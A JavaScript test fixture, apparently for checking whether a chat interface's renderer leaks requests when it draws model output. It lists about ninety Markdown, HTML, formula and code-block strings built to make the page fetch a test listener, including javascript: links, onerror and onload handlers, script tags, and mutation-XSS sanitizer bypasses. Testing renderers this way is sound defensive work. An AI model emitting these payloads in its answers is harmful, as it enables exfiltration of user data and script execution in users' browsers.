// What a model says in order that the page which draws it reaches a server: Markdown, HTML within
// it, formulas and code. Each entry gets the addresses of a listener of its own.

const svg = (inside) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`;

const data = (kind, text) => `data:${kind},${encodeURIComponent(text)}`;

/** Name of the attempt and its text. No entry has a blank line, which would end its HTML. */
export const TEXTS = {
  picture: ({ http }) => `![x](${http})`,
  "picture with a title": ({ http }) => `![x](${http} "title")`,
  "picture in brackets": ({ http }) => `![x](<${http}>)`,
  "picture by reference": ({ http }) => `![x][picture]\n\n[picture]: ${http}`,
  "picture by a short reference": ({ http }) => `![shortcut]\n\n[shortcut]: <${http}> 'x'`,
  "picture in a link": ({ http }) => `[![x](${http})](${http})`,
  "picture in a heading": ({ http }) => `# ![x](${http})`,
  "picture in a list": ({ http }) => `- a\n  - ![x](${http})`,
  "picture in a task": ({ http }) => `- [ ] ![x](${http})`,
  "picture in a quote": ({ http }) => `> > ![x](${http})`,
  "picture in a table": ({ http }) => `| a |\n|---|\n| ![x](${http}) |`,
  "picture in a note": ({ http }) => `x[^note]\n\n[^note]: ![x](${http})`,
  "picture, https": ({ https }) => `![x](${https})`,
  "picture without a scheme": ({ host, path }) => `![x](//${host}/${path})`,
  "picture with entities": ({ http }) => `![x](${http.replace("http", "&#104;ttp")})`,
  "picture by name": ({ byName }) => `![x](${byName})`,
  "picture in bold and struck out": ({ http }) => `**~~![x](${http})~~**`,
  "picture of a data SVG": ({ http }) =>
    `![x](${data("image/svg+xml", svg(`<image href="${http}" width="9" height="9"/>`))})`,
  link: ({ http }) => `[x](${http})`,
  "link in brackets": ({ http }) => `<${http}>`,
  "bare address": ({ http }) => `See ${http} please.`,
  "bare address of www": ({ host }) => `www.${host.replace("127.0.0.1", "localhost")}/x`,
  "link by reference": ({ http }) => `[x][there]\n\n[there]: ${http}`,
  "link, javascript": ({ http }) => `[x](javascript:fetch('${http}'))`,
  "link, javascript with a tab": ({ http }) => `[x](<java\tscript:fetch('${http}')>)`,
  "link, javascript in capitals": ({ http }) => `[x](JaVaScRiPt:fetch('${http}'))`,
  "link, javascript by entities": ({ http }) => `[x](&#x6A;avascript:fetch('${http}'))`,
  "link, data": ({ http }) => `[x](${data("text/html", `<img src="${http}">`)})`,
  "link, mail": ({ host }) => `[x](mailto:x@${host})`,
  "link with an incomplete end": ({ http }) => `[x](${http}`,

  "HTML: img": ({ http }) => `<img src="${http}">`,
  "HTML: img without quotes": ({ http }) => `<img src=${http}>`,
  "HTML: img in capitals": ({ http }) => `<IMG SRC='${http}'>`,
  "HTML: img with a slash": ({ http }) => `<img/src="${http}"/>`,
  "HTML: img within words": ({ http }) => `some <img src="${http}"> words`,
  "HTML: srcset": ({ http }) => `<img srcset="${http} 1x">`,
  "HTML: picture": ({ http }) => `<picture><source srcset="${http}"><img></picture>`,
  "HTML: onerror": ({ http }) => `<img src="data:," onerror="fetch('${http}')">`,
  "HTML: onload of an SVG": ({ http }) => `<svg onload="fetch('${http}')"></svg>`,
  "HTML: ontoggle": ({ http }) =>
    `<details open ontoggle="fetch('${http}')"><summary>x</summary></details>`,
  "HTML: onfocus": ({ http }) => `<input autofocus onfocus="fetch('${http}')">`,
  "HTML: script": ({ http }) => `<script>fetch("${http}")</script>`,
  "HTML: script at an address": ({ http }) => `<script src="${http}"></script>`,
  "HTML: script, module": ({ http }) => `<script type="module">import "${http}"</script>`,
  "HTML: script in a script": ({ http }) => `<scr<script>ipt src="${http}"></scr</script>ipt>`,
  "HTML: iframe": ({ http }) => `<iframe src="${http}"></iframe>`,
  "HTML: srcdoc": ({ http }) => `<iframe srcdoc="<img src='${http}'>"></iframe>`,
  "HTML: object": ({ http }) => `<object data="${http}"></object>`,
  "HTML: embed": ({ http }) => `<embed src="${http}">`,
  "HTML: video": ({ http }) => `<video src="${http}" preload="auto" autoplay></video>`,
  "HTML: poster": ({ http }) => `<video poster="${http}"></video>`,
  "HTML: audio": ({ http }) => `<audio src="${http}" preload="auto" autoplay></audio>`,
  "HTML: style sheet": ({ http }) => `<link rel="stylesheet" href="${http}">`,
  "HTML: preload": ({ http }) => `<link rel="preload" as="image" href="${http}">`,
  "HTML: preconnect": ({ http }) => `<link rel="preconnect" href="${http}">`,
  "HTML: modulepreload": ({ http }) => `<link rel="modulepreload" href="${http}">`,
  "HTML: @import": ({ http }) => `<style>@import url("${http}");</style>`,
  "HTML: background by style": ({ http }) => `<p style="background:url(${http})">x</p>`,
  "HTML: font": ({ http }) =>
    `<style>@font-face{font-family:q;src:url(${http})}i{font-family:q}</style><i>x</i>`,
  "HTML: background by attribute": ({ http }) =>
    `<table background="${http}"><tr><td>x</td></tr></table>`,
  "HTML: image input": ({ http }) => `<input type="image" src="${http}">`,
  "HTML: form and its button": ({ http }) => `<form action="${http}"><button>x</button></form>`,
  "HTML: a button's own address": ({ http }) =>
    `<form><button formaction="${http}">x</button></form>`,
  "HTML: link": ({ http }) => `<a href="${http}">x</a>`,
  "HTML: link to download": ({ http }) => `<a href="${http}" download>x</a>`,
  "HTML: link that pings": ({ http }) => `<a href="#x" ping="${http}">x</a>`,
  "HTML: area": ({ http }) =>
    `<map name="m"><area shape="default" href="${http}"></map><img usemap="#m">`,
  "HTML: meta refresh": ({ http }) => `<meta http-equiv="refresh" content="0;url=${http}">`,
  "HTML: base": ({ origin, path }) => `<base href="${origin}"><img src="${path}">`,
  "HTML: SVG image": ({ http }) => svg(`<image href="${http}" width="9" height="9"/>`),
  "HTML: SVG feImage": ({ http }) =>
    svg(
      `<filter id="g"><feImage href="${http}"/></filter><rect width="9" height="9" filter="url(#g)"/>`,
    ),
  "HTML: SVG foreignObject": ({ http }) =>
    svg(`<foreignObject width="9" height="9"><img src="${http}"/></foreignObject>`),
  "HTML: MathML": ({ http }) =>
    `<math><mrow href="${http}"><mi>x</mi></mrow><mtext><img src="${http}"></mtext></math>`,
  "HTML: a tree that is parsed twice": ({ http }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${http}&gt;" src="${http}"></mtext></math>`,
  "HTML: template": ({ http }) =>
    `<div><template shadowrootmode="open"><img src="${http}"></template></div>`,
  "HTML: comment that ends early": ({ http }) => `<!--> <img src="${http}"> -->`,
  "HTML: noscript": ({ http }) => `<noscript><p title="</noscript><img src=${http}>">`,
  "HTML: the ends of our own page": ({ http }) => `</div></article></main><img src="${http}">`,

  "formula: picture": ({ http }) => `$$\\includegraphics{${http}}$$`,
  "formula: link": ({ http }) => `$$\\href{${http}}{x}$$`,
  "formula: address": ({ http }) => `\\(\\url{${http}}\\)`,
  "formula: style": ({ http }) => `$$\\htmlStyle{background: url(${http})}{x}$$`,
  "formula: markup": ({ http }) => `$$\\text{<img src="${http}">}$$`,
  "code: HTML": ({ http }) => `\`\`\`html\n<img src="${http}">\n\`\`\``,
  "code: its language": ({ http }) => `\`\`\`"><img/src="${http}">\nx\n\`\`\``,
  "code: mermaid": ({ http }) =>
    `\`\`\`mermaid\ngraph TD; A["<img src='${http}'>"]; click A href "${http}"\n\`\`\``,
  "code: in the line": ({ http }) => `\`<img src="${http}">\``,
};
